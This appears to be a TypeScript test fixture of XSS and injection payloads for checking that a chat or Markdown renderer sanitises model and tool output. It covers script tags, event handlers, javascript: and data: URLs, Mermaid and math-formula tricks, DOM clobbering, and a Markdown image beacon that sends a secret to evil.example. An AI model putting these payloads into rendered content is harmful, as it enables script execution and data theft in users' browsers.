// What a hostile model, tag or tool result could write. Each one that runs sets window.ran; each one that loads
// something asks evil.example.

const run = "window.ran=1";
const evil = "https://evil.example/x";

const elements = [
  `<script>${run}</script>`, `<script src="${evil}.js"></script>`, `<ScRiPt>${run}</sCrIpT>`, `<script\n>${run}</script\n>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script/x>${run}</script>`,
  `<img src=x onerror=${run}>`, `<img src="${evil}.png">`, `<img srcset="${evil}.png 1x">`, `<img/src=x/onerror=${run}>`, `<IMG SRC=x OnErRoR="${run}">`, `<img src=x onerror\n=\n"${run}">`, `<img src="x" onload="${run}" onerror="${run}">`,
  `<image src=x onerror=${run}>`, `<picture><source srcset="${evil}.png"><img src=x></picture>`, `<input type=image src="${evil}.png" onerror=${run}>`,
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`, `<svg><image href="${evil}.svg"/></svg>`, `<svg><use href="${evil}.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`, `<svg><foreignObject><body onload=${run}></foreignObject></svg>`, `<svg><style>@import "${evil}.css"</style></svg>`, `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<math href="javascript:${run}">click</math>`, `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`, `<math><maction actiontype="statusline#${evil}" xlink:href="javascript:${run}">x</maction></math>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`, `<iframe src="${evil}"></iframe>`, `<frame src="${evil}">`, `<frameset onload=${run}>`, `<object data="${evil}"></object>`, `<object data="javascript:${run}"></object>`,
  `<embed src="${evil}">`, `<embed src="javascript:${run}">`, `<applet code="${evil}"></applet>`, `<portal src="${evil}"></portal>`,
  `<link rel=stylesheet href="${evil}.css">`, `<link rel=prefetch href="${evil}">`, `<link rel=dns-prefetch href="//evil.example">`, `<link rel=preload as=image href="${evil}">`, `<link rel=import href="${evil}">`, `<style>@import "${evil}.css";</style>`, `<style>body{background:url(${evil}.png)}</style>`, `<style>*{visibility:hidden}</style>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href="https://evil.example/">`, `<body onload=${run}>`, `<body background="${evil}.png">`, `<html onclick=${run}>`,
  `<video src="${evil}.mp4" autoplay></video>`, `<video poster="${evil}.png"></video>`, `<video><source onerror=${run}></video>`, `<audio src="${evil}.mp3" autoplay onerror=${run}></audio>`, `<track src="${evil}">`,
  `<form action="${evil}"><button>send</button></form>`, `<form action="javascript:${run}"><input type=submit></form>`, `<button formaction="javascript:${run}">x</button>`, `<isindex action="javascript:${run}">`,
  `<input autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}></textarea>`, `<select autofocus onfocus=${run}></select>`, `<keygen autofocus onfocus=${run}>`, `<details open ontoggle=${run}><summary>x</summary></details>`, `<marquee onstart=${run}>x</marquee>`, `<div onmouseover=${run}>x</div>`,
  `<div style="background:url(${evil}.png)">x</div>`, `<div style="width:expression(${run})">x</div>`, `<div style="position:fixed;inset:0;z-index:9999">over everything</div>`, `<table background="${evil}.png"><tr><td>x</td></tr></table>`, `<td background="${evil}.png">`,
  `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`, `<!--<img src="--><img src=x onerror=${run}>-->`, `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml-stylesheet href="${evil}.css"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "${evil}">]>`,
  `<dialog open onclose=${run}>x</dialog>`, `<custom-element onconnected=${run}></custom-element>`, `<slot onslotchange=${run}></slot>`, `<plaintext>`, `<xmp><img src=x onerror=${run}></xmp>`, `<listing><img src=x onerror=${run}></listing>`, `<a href="javascript:${run}">x</a>`, `<a href="${evil}" ping="${evil}">x</a>`, `<area href="javascript:${run}">`,
] as const;

const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `&#106;avascript:${run}`, `&#x6A;avascript:${run}`, `javascript&colon;${run}`, `javascript&#58;${run}`, `\u0001javascript:${run}`, ` javascript:${run}`,
  `jav&#x09;ascript:${run}`, `jav&#x0A;ascript:${run}`, `%6aavascript:${run}`, `javascript://%0a${run}`, `javascript://evil.example/%0a${run}`, `data:text/html,<script>parent.ran=1</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`, `vbscript:${run}`, `VbScRiPt:${run}`, `feed:javascript:${run}`, `view-source:javascript:${run}`, `blob:${evil}`, `file:///etc/passwd`, `//evil.example/x`, `http://evil.example/x`, `${evil}`, `ftp://evil.example/x`,
  `wails://wails/x`, `about:blank`, `mailto:a@evil.example?body=x`, `https://evil.example@good.example/`, `https://good.example%2f@evil.example/`, `\\\\evil.example\\x`, `https:evil.example`, `tel:1`, `intent://x#Intent;end`, `ms-settings:x`,
] as const;

const diagrams = [
  `flowchart LR\n a["<img src=x onerror=${run}>"]`, `flowchart LR\n a["<script>${run}</script>"]`, `flowchart LR\n a[x]\n click a href "javascript:${run}"`, `flowchart LR\n a[x]\n click a call alert(1)`, `flowchart LR\n a[x]\n click a "${evil}"`,
  `%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\n a["<img src=x onerror=${run}>"]`, `%%{init: {"themeCSS": "*{background:url(${evil}.png)}"}}%%\nflowchart LR\n a --> b`, `%%{init: {"fontFamily": "x;}*{background:url(${evil}.png)}"}}%%\nflowchart LR\n a-->b`,
  `---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import '${evil}.css';"\n---\nflowchart LR\n a --> b`, `flowchart LR\n a@{ img: "${evil}.png", label: "x" }`, `flowchart LR\n a@{ icon: "x:${evil}" }`, `flowchart LR\n a --> b\n style a fill:url(${evil}.svg#a)`, `flowchart LR\n a --> b\n classDef x fill:u\\72l(${evil})\n class a x`,
  `flowchart LR\n a --> b\n linkStyle 0 stroke:url(${evil})`, `sequenceDiagram\n participant a\n link a: x @ javascript:${run}\n a->>a: <img src=x onerror=${run}>`, `classDiagram\n class A["<svg onload=${run}>"]\n link A "javascript:${run}"`, `gantt\n title <img src=x onerror=${run}>\n section a\n x :a1, 2024-01-01, 1d\n click a1 href "javascript:${run}"`,
  `pie title <img src=x onerror=${run}>\n "a" : 1`, `stateDiagram-v2\n a: <iframe src=javascript:${run}>\n a --> [*]`, `erDiagram\n A ||--o{ B : "<img src=x onerror=${run}>"`, `mindmap\n root((<img src=x onerror=${run}>))\n  ::icon(${evil})`, `journey\n title <script>${run}</script>\n section a\n x: 5: me`,
  `timeline\n title <img src=x onerror=${run}>\n 2020 : a`, `gitGraph\n commit id: "<img src=x onerror=${run}>"`, `flowchart LR\n a["$$\\\\href{javascript:${run}}{x}$$"]`, `flowchart LR\n a["\`**x** <img src=x onerror=${run}>\`"]`, `flowchart LR\n a["#60;img src=x onerror=${run}#62;"]`, `not a diagram <img src=x onerror=${run}>`,
  `quadrantChart\n title <img src=x onerror=${run}>\n x-axis a --> b\n y-axis c --> d`, `C4Context\n title x\n Person(a, "<img src=x onerror=${run}>", "x", $sprite="img:${evil}.png")`, `block-beta\n a["<img src=x onerror=${run}>"]`, `sankey-beta\n"<img src=x onerror=${run}>",b,1`, `xychart-beta\n title "<img src=x onerror=${run}>"\n bar [1]`,
] as const;

const formulas = [
  `\\href{javascript:${run}}{x}`, `\\url{javascript:${run}}`, `\\href{${evil}}{x}`, `\\includegraphics[width=1em]{${evil}.png}`, `\\htmlId{root}{x}`, `\\htmlClass{fixed inset-0}{x}`, `\\htmlStyle{background:url(${evil}.png)}{x}`, `\\htmlData{x=${run}}{x}`,
  `\\text{<img src=x onerror=${run}>}`, `\\text{</annotation><img src=x onerror=${run}>}`, `\\unicode{<svg onload=${run}>}`, `\\def\\a{\\a\\a}\\a`, `\\color{red;background:url(${evil}.png)}x`, `\\colorbox{url(${evil})}{x}`, `\\rule{1000000em}{1000000em}`, `\\require{html}\\href{javascript:${run}}{x}`, `<script>${run}</script>`,
] as const;

const clobbering = [
  ...["body", "cookie", "forms", "root", "getElementById", "createElement", "nodeName", "fake", "nav", "go", "runtime", "location"].map((name) => `<a id=${name}></a><img name=${name} src=x>`),
  `<form id=fake><input name=ask></form>`, `<a id=go href="${evil}"></a><a id=go name=main href="${evil}"></a>`, `[^root]\n\n[^root]: x`, `# root\n\n## __proto__\n\n### constructor`, `<iframe name=fake></iframe>`,
] as const;

const entities = [
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`, `&#x3C;svg onload=${run}&#x3E;`, `&amp;lt;script&amp;gt;${run}`, `\\<img src=x onerror=${run}\\>`, `\u003cimg src=x onerror=${run}\u003e`, `＜script＞${run}＜/script＞`, `<\u0000script>${run}</script>`, `<img src=x onerror\u00a0=${run}>`, `\`<img src=x onerror=${run}>\``,
] as const;

const markdown = [
  `![x](${evil}.png)`, `![x](${evil}.png "title")`, `![x][i]\n\n[i]: ${evil}.png`, `[![x](${evil}.png)](javascript:${run})`, `![x](${evil}.png =100x100)`, `<${evil}>`, `<javascript:${run}>`, `${evil}`, `www.evil.example`, `[x](<javascript:${run}>)`, `[x]: javascript:${run}\n\n[x]`, `[x](${evil} "\\" onmouseover=${run} x=\\"")`,
  `[x" onmouseover="${run}](${evil})`, `[a](javascript:${run}) [b](${evil}) ![c](data:image/svg+xml,<svg onload=${run}>)`, `\`\`\`html\n<script>${run}</script>\n\`\`\``, `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``, `\`\`\`language-<img/src=x/onerror=${run}>\nx\n\`\`\``, `| <img src=x onerror=${run}> |\n| --- |\n| [x](javascript:${run}) |`,
  `- [ ] <img src=x onerror=${run}>`, `> <img src=x onerror=${run}>`, `# <img src=x onerror=${run}>`, `<think><img src=x onerror=${run}></think><img src=x onerror=${run}>`, `arn:aws:s3:::<img/src=x/onerror=${run}>`, `\`arn:aws:s3:::a"onmouseover="${run}\``, `**<img src=x onerror=${run}>**`, `~~<svg onload=${run}>~~`, `<details><summary>x</summary>\n\n![x](${evil}.png)\n\n</details>`,
  `[x](${evil}?q=secret) ![beacon](${evil}?q=secret)`, `<p>\n\n![x](${evil}.png)\n\n</p>`, `:::html\n<img src=x onerror=${run}>\n:::`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `[x](javascript:${run}`, `![x](${evil}.png`, `**bold [x](javascript:${run}`, `<img src=x onerror=${run}`,
] as const;

/** Every payload once: as they are, as link and picture targets, as diagrams and as formulas. */
export const payloads: readonly string[] = [
  ...elements,
  ...addresses.flatMap((address) => [`[link](${address})`, `[link](<${address}>) ![picture](<${address}>)`, `<a href="${address}">x</a><img src="${address}">`]),
  ...diagrams.map((diagram) => `\`\`\`mermaid\n${diagram}\n\`\`\``),
  ...formulas.flatMap((formula) => [`$$\n${formula}\n$$`, `Inline $$${formula}$$ and \\(${formula}\\)`]),
  ...clobbering,
  ...entities,
  ...markdown,
];
